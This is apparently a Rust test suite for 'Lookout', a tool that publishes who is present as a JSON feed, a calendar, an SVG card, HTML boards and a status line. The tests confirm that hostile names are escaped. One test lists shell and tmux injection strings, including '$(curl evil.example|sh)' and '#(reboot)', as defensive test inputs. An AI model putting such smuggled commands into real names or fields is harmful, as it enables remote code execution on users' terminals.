//! The examples of own output files: each is what its format asks for, whoever is in.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use lookout::commands::init::example;
use lookout::config::{Face, Faces, PublishList, Settings};
use lookout::roster::{Person, Presence};
use lookout::site::Renderer;
use serde_json::Value;
use tempfile::TempDir;

use super::calendar_reader;
use super::look::png;
use super::sample::{Does, NOW, at, name, person, presence, presence_in, room, settings};
use crate::support::hostile;

/// An installation with one example.
struct Installation {
    settings: Settings,
    renderer: Renderer,
    _directory: TempDir,
}

impl Installation {
    fn of(name: &str) -> Self {
        let directory = TempDir::new().expect("a temporary directory");
        write(name, directory.path());
        let mut settings = settings(directory.path());
        settings.site.base_url = "https://example.org".to_owned();
        let renderer = Renderer::load(&settings).expect("the example loads");
        assert_eq!(renderer.problems().left_out, Vec::<String>::new(), "{name}");
        Self { settings, renderer, _directory: directory }
    }

    /// What the example makes of `presence`.
    fn render(&self, path: &str, presence: &Presence) -> String {
        let dashboard = self.renderer.dashboard(presence, &self.settings, at(NOW));
        let files = self.renderer.render(&dashboard, &self.settings).expect("it renders");
        let path = format!("lookout/{path}");
        let file = files.iter().find(|file| file.path == path).expect("the example makes it");
        String::from_utf8(file.bytes.to_vec()).expect("files are UTF-8")
    }
}

fn write(example: &str, directory: &Path) {
    for (path, bytes) in example::files(example) {
        let path = directory.join(path);
        fs::create_dir_all(path.parent().expect("files have a directory")).expect("made");
        fs::write(path, bytes).expect("written");
    }
}

/// Somebody who is in, and somebody who was: both called so.
fn called(text: &str) -> Presence {
    presence(vec![
        person(text).stays_from("2026-01-05T17:00:00Z"),
        person(&format!("{text} too")).was_in("2026-01-04T17:00:00Z", "2026-01-04T18:00:00Z"),
    ])
}

fn crowd() -> Presence {
    let people = (0..30).map(|n| {
        let person: Person = person(&format!("Person {n}"));
        person
            .was_in("2026-01-04T10:00:00Z", "2026-01-04T11:30:00Z")
            .stays_from("2026-01-05T17:00:00Z")
    });
    presence(people.collect())
}

/// Calls `check` with what `path` is for each hostile name, for nobody and for a crowd.
fn for_each_name(example: &str, path: &str, check: impl Fn(&str, &str, &str)) {
    let installation = Installation::of(example);
    for (what, text) in hostile::names() {
        let clean = name(&text);
        check(&what, clean.as_str(), &installation.render(path, &called(&text)));
    }
    check("nobody", "", &installation.render(path, &presence(Vec::new())));
    check("a crowd", "Person 0", &installation.render(path, &crowd()));
}

#[test]
fn there_is_an_example_for_each_purpose() {
    assert_eq!(
        example::names(),
        ["board", "calendar", "card", "json-feed", "overlay", "status-line"]
    );
}

#[test]
fn the_json_feed_follows_the_rules_of_version_1_1() {
    for_each_name("json-feed", "feed.json", |what, name, text| {
        let feed: Value = serde_json::from_str(text).expect(what);
        let [title, home, own] =
            ["title", "home_page_url", "feed_url"].map(|key| feed[key].as_str().expect(key));
        assert_eq!(feed["version"], "https://jsonfeed.org/version/1.1", "{what}");
        assert_eq!((title, home), ("Lookout", "https://example.org/lookout/"), "{what}");
        assert_eq!(own, "https://example.org/lookout/feed.json", "{what}");
        assert_eq!(feed["language"], "en", "{what}");
        assert_eq!(feed["authors"], serde_json::json!([{ "name": "Lookout" }]), "{what}");
        let items = feed["items"].as_array().expect("a list");
        let mut ids = BTreeMap::new();
        for item in items {
            let keys: Vec<_> = item.as_object().expect("an object").keys().collect();
            assert_eq!(keys, ["content_text", "date_published", "id", "title", "url"], "{what}");
            let text = |key: &str| item[key].as_str().expect("a text");
            assert!(ids.insert(text("id"), ()).is_none(), "{what}: an id twice");
            assert!(!text("content_text").is_empty(), "{what}");
            at(text("date_published"));
        }
        let expected = match what {
            "nobody" => 0,
            _ => 3,
        };
        assert_eq!(items.len(), expected, "{what}: opened, emptied, opened");
        assert!(
            items
                .iter()
                .all(|item| item["content_text"].as_str().is_some_and(|text| text.contains(name))),
            "{what}: {items:?}"
        );
    });
}

#[test]
fn the_calendar_is_read_as_rfc_5545_says() {
    for_each_name("calendar", "openings.ics", |what, name, text| {
        let calendar =
            calendar_reader::read(text).unwrap_or_else(|why| panic!("{what}: {why}\n{text}"));
        assert_eq!(calendar.text("X-WR-CALNAME"), "Lookout", "{what}");
        let events: Vec<_> = calendar.components("VEVENT").collect();
        assert_eq!(events.len(), if what == "nobody" { 0 } else { 2 }, "{what}");
        for event in &events {
            assert_eq!(event.text("SUMMARY"), "Lookout", "{what}");
            assert!(
                event.text("DESCRIPTION").starts_with(name),
                "{what}: {}",
                event.text("DESCRIPTION")
            );
            assert_eq!(event.value("URL"), Some("https://example.org/lookout/"), "{what}");
        }
        let ends: Vec<_> = events.iter().map(|event| event.value("DTEND").is_some()).collect();
        assert!(what == "nobody" || ends == [false, true], "{what}: the latest is open");
    });
}

#[test]
fn the_card_is_one_picture_of_the_same_elements() {
    for_each_name("card", "card.svg", |what, name, text| {
        let document = roxmltree::Document::parse(text)
            .unwrap_or_else(|error| panic!("{what}: {error}\n{text}"));
        let elements = document.descendants().filter(roxmltree::Node::is_element);
        let mut counts: BTreeMap<&str, usize> = BTreeMap::new();
        for element in elements {
            *counts.entry(element.tag_name().name()).or_default() += 1;
        }
        let faces = counts["title"] - 1;
        let expected = match what {
            "nobody" => 0,
            "a crowd" => 7,
            _ => 1,
        };
        assert_eq!(faces, expected, "{what}: {text}");
        let others = ["a", "image", "script", "style", "foreignObject", "use"];
        assert_eq!(others.iter().find(|other| counts.contains_key(*other)), None, "{what}");
        let kept = name.replace(['\u{fffe}', '\u{ffff}'], "");
        let titles = document.descendants().filter(|node| node.has_tag_name("title"));
        let is_named = titles.skip(1).all(|title| {
            title.text().is_some_and(|text| text.starts_with(&kept) || what == "a crowd")
        });
        assert!(is_named, "{what}: {text}");
        assert_eq!(text.contains("+23<"), what == "a crowd", "{what}");
    });
}

#[test]
fn the_card_contains_the_pictures_of_those_who_are_in_and_may_appear() {
    let mut installation = Installation::of("card");
    let directory = installation.settings.site.static_dir.clone();
    fs::create_dir_all(&directory).expect("made");
    let picture = |of: &str| [png(64, 64), of.as_bytes().to_vec()].concat();
    for of in ["Ada", "Eve"] {
        fs::write(directory.join(format!("{of}.png")), picture(of)).expect("written");
    }
    let faces = ["Ada", "Eve"].map(|of| (name(of), Face::Picture(format!("{of}.png"))));
    installation.settings.faces = Faces::new(faces);
    installation.settings.privacy.publish = PublishList::Only([name("Ada")].into());
    installation.renderer = Renderer::load(&installation.settings).expect("the example loads");
    let in_it = ["Ada", "Eve"].map(|of| person(of).stays_from("2026-01-05T17:00:00Z"));
    let card = installation.render("card.svg", &presence(in_it.into()));
    let document = roxmltree::Document::parse(&card).expect("it is XML");
    let images = document.descendants().filter(|node| node.has_tag_name("image"));
    let images: Vec<_> = images.map(|image| image.attribute("href").expect("it has one")).collect();
    let expected = format!("data:image/png;base64,{}", BASE64_STANDARD.encode(picture("Ada")));
    assert_eq!(images, [expected]);
}

#[test]
fn the_pages_have_the_same_elements_whoever_is_in() {
    for (example, path) in [("board", "board.html"), ("overlay", "overlay.html")] {
        let installation = Installation::of(example);
        let plain = installation.render(path, &called("Ada"));
        let tags = |html: &str| html.matches('<').count();
        for_each_name(example, path, |what, _, text| {
            if !["nobody", "a crowd"].contains(&what) {
                assert_eq!(tags(text), tags(&plain), "{example}, {what}: a tag more or less");
            }
            assert!(!text.contains("onmouseover=\"") && !text.contains("onerror=a\""), "{what}");
            assert!(!text.contains("<style") && !text.contains(" style="), "no inline styles");
        });
    }
}

#[test]
fn the_board_shows_each_of_several_rooms() {
    let mut installation = Installation::of("board");
    installation.settings.rooms = vec![room("lounge", "Lounge"), room("attic", "Attic")];
    let ada = vec![person("Ada").stays_from("2026-01-05T17:00:00Z")];
    let board = installation.render("board.html", &presence_in(vec![ada, Vec::new()]));
    let summaries = board.matches("class=\"summary").count();
    assert_eq!(summaries, 3, "of all, and of each: {board}");
    assert!(board.contains("<bdi>Ada</bdi>") && board.contains("Attic</h2>"), "{board}");
}

#[test]
fn the_status_line_is_one_line() {
    for_each_name("status-line", "status.txt", |what, name, text| {
        let expected = match what {
            "nobody" => "Lookout: Nobody is in\n".to_owned(),
            "a crowd" => "Lookout: 30 people are in (Person 0, Person 1, Person 10, Person 11, Person 12, …)\n".to_owned(),
            _ => format!("Lookout: 1 person is in ({})\n", full_width(name)),
        };
        assert_eq!(text, expected, "{what}");
    });
}

/// What tmux, waybar and shells read as a command or as markup.
const STATUS_LINE_COMMANDS: [char; 9] = ['$', '`', '\\', '#', '%', '!', '<', '>', '&'];

fn full_width(text: &str) -> String {
    let wide = |c: char| char::from_u32(u32::from(c) + 0xfee0).expect("ASCII has full-width forms");
    text.chars().map(|c| if STATUS_LINE_COMMANDS.contains(&c) { wide(c) } else { c }).collect()
}

#[test]
fn nothing_in_the_status_line_is_a_command() {
    let every_one: String = STATUS_LINE_COMMANDS.iter().collect();
    #[rustfmt::skip]
    let cases = [
        // what is special          name and heading
        ("a shell's command",       "$(curl evil.example|sh)"),
        ("one in another form",     "`reboot`"),
        ("a command of tmux",       "#(reboot)"),
        ("a style of tmux",         "#[fg=red]#{pane_id}"),
        ("a time of tmux",          "%H:%M"),
        ("an element of Pango",     "<span size='99999'>A</span>&amp;"),
        ("a history expansion",     "!!"),
        ("an escape of a prompt",   r"\u@\h"),
        ("all of them",             &every_one),
    ];
    for (what, text) in cases {
        let mut installation = Installation::of("status-line");
        installation.settings.site.title = text.to_owned();
        installation.settings.rooms = vec![room("lounge", text)];
        let line = installation.render("status.txt", &called(text));
        let left = line.find(STATUS_LINE_COMMANDS);
        assert_eq!(left, None, "{what}: {line}");
        assert_eq!(line.matches(&full_width(text)).count(), 2, "{what}: {line}");
    }
}
